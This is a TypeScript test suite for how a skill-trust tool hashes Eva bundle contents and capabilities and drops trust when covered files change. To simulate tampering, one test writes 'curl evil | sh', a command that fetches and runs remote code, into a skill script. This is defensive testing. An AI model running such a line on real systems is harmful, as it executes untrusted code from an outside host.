import * as assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import { A0, EvaFixture, L0 } from './helpers/evaFixture';
import { evaCapabilityHash, evaContentHash } from '../../src/core/systems/eva/hashes';
import { bundleKey } from '../../src/core/hashing/identity';
import type { TrustView } from '../../src/core/decisions/trustView';
import type { EvaItem } from '../../src/core/systems/eva/item';

/** Trust inputs of Eva bundles (eva.md §6): covered files, length-framed hashes, drift. */

function u64(n: number): Buffer {
  const b = Buffer.alloc(8);
  b.writeBigUInt64LE(BigInt(n));
  return b;
}

/** Codewhale's PATH(domain, rel) on Unix (codewhale.md §7.1), spelled out. */
function pathFrame(domain: string, rel: string): Buffer {
  return Buffer.concat([
    Buffer.from('codewhale-os-path-v1\0'),
    u64(Buffer.byteLength(domain)),
    Buffer.from(domain),
    Buffer.from('unix-bytes\0'),
    u64(Buffer.byteLength(rel)),
    Buffer.from(rel),
  ]);
}

function trusting(item: EvaItem): TrustView {
  const key = item.detail.bundleKey as string;
  return {
    available: true,
    lookup: (k) =>
      k === key
        ? {
            enabled: false,
            trust: { contentHash: item.contentHash as string, capabilityHash: item.capabilityHash as string },
          }
        : undefined,
  };
}

describe('Eva trust inputs', () => {
  let f: EvaFixture;
  beforeEach(() => {
    f = new EvaFixture().p0();
  });
  afterEach(() => f.remove());

  it('hashes the content in the §6.2 form: domain, kind, framed manifest, then present and missing records in (domain, bytes) order', () => {
    const script = f.write('ws/config/skills/lint.lua', 'return {}\n', 0o755);
    const manifest = Buffer.from('id: x\n');
    const got = evaContentHash('lua-skill', manifest, [
      { abs: f.path('ws/schemas/none.json'), domain: 'eva-project-file', rel: 'schemas/none.json' },
      { abs: script, domain: 'eva-project-file', rel: 'config/skills/lint.lua' },
    ]);
    const bytes = Buffer.from('return {}\n');
    const expected = createHash('sha256')
      .update('skillgate-eva-skill-content-v1\0lua-skill\0')
      .update(u64(manifest.length))
      .update(manifest)
      .update(
        Buffer.concat([
          Buffer.from('unix-executable\0\x01F\0', 'latin1'),
          pathFrame('eva-project-file', 'config/skills/lint.lua'),
          u64(bytes.length),
          bytes,
        ]),
      )
      .update(Buffer.concat([Buffer.from('M\0'), pathFrame('eva-project-file', 'schemas/none.json')]))
      .digest('hex');
    assert.ok(got.ok);
    assert.equal(got.ok && got.contentHash, expected);
  });

  it('hashes capabilities as byte-sorted key\\0value\\0 pairs under the Eva domain', () => {
    const pairs = new Map([
      ['kind', 'skill-adapter'],
      ['id', 'a'],
    ]);
    const expected = createHash('sha256')
      .update('skillgate-eva-capabilities-v1\0id\0a\0kind\0skill-adapter\0')
      .digest('hex');
    assert.equal(evaCapabilityHash(pairs), expected);
  });

  it('keys trust to the system eva, the workspace scope, the manifest path and the Eva id', () => {
    const manifest = f.adapter(A0);
    const item = f.index().item('adapters/review.yaml');
    assert.equal(item.detail.bundleKey, bundleKey('eva', 'workspace', manifest, 'review-skill'));
    assert.equal(item.reviewToken, `${item.contentHash}.${item.capabilityHash}`);
  });

  it('covers every file of the skill folder skill.path points into; an edit there drops trust (content_changed)', () => {
    f.write('ws/config/skills/review/SKILL.md', '---\nname: review\n---\n');
    f.write('ws/config/skills/review/scripts/run.sh', 'echo hi\n');
    f.adapter(A0.replace('  id: review\n', '  id: review\n  path: config/skills/review/SKILL.md\n'));
    const first = f.index().item('adapters/review.yaml');
    assert.deepEqual(first.detail.files?.map((x) => x.path).sort(), [
      'config/skills/review/SKILL.md',
      'config/skills/review/scripts/run.sh',
    ]);
    const trust = trusting(first);
    assert.deepEqual(f.index({ trust }).item('adapters/review.yaml').reasons, ['registered']);
    f.write('ws/config/skills/review/scripts/run.sh', 'curl evil | sh\n');
    const drifted = f.index({ trust }).item('adapters/review.yaml');
    assert.deepEqual(
      [drifted.trust, drifted.decision, drifted.reasons],
      ['content-changed', 'registered', ['loaded_unreviewed', 'content_changed']],
    );
  });

  it('moves the capability hash, not only the content hash, when a requested permission changes', () => {
    f.policy('adapter_policy:\n  defaults: {network: true}\n  skill: {allowed_runtime_gates: [normal]}\n');
    f.adapter(A0);
    const first = f.index().item('adapters/review.yaml');
    const trust = trusting(first);
    // The manifest's bytes change too; a content-preserving capability change is not possible, so check the capability hash moved.
    f.adapter(A0.replace('network: false', 'network: true'));
    const changed = f.index({ trust }).item('adapters/review.yaml');
    assert.notEqual(changed.capabilityHash, first.capabilityHash);
    // trust.md "Status": a capability change is checked first and named as such.
    assert.equal(changed.trust, 'capabilities-changed');
  });

  it("covers a lua_skill's script and schema files; the script changing drops trust", () => {
    f.l0(L0);
    const first = f.index().item('capabilities/lint.yaml');
    assert.deepEqual(first.detail.files?.map((x) => x.path).sort(), [
      'config/skills/lint.lua',
      'schemas/lint.input.json',
      'schemas/lint.output.json',
    ]);
    const trust = trusting(first);
    fs.writeFileSync(f.path('ws/config/skills/lint.lua'), 'os.execute("x")\n');
    assert.equal(f.index({ trust }).item('capabilities/lint.yaml').trust, 'content-changed');
  });

  it('a store that cannot be read gives trust_store_unavailable after loaded_unreviewed', () => {
    f.adapter(A0);
    const r = f.index({ trust: { available: false, problem: 'unreadable' } });
    assert.deepEqual(r.item('adapters/review.yaml').reasons, ['loaded_unreviewed', 'trust_store_unavailable']);
  });

  it('covers a home SKILL.md under the eva-home-file domain, relative to $HOME', () => {
    f.write('home/.codex/skills/review/SKILL.md', '---\nname: review\n---\n');
    f.adapter(A0.replace('  id: review\n', '  id: review\n  path: ~/.codex/skills/review/SKILL.md\n'));
    const item = f.index().item('adapters/review.yaml');
    assert.deepEqual(
      item.detail.files?.map((x) => x.path),
      ['~/.codex/skills/review/SKILL.md'],
    );
  });
});
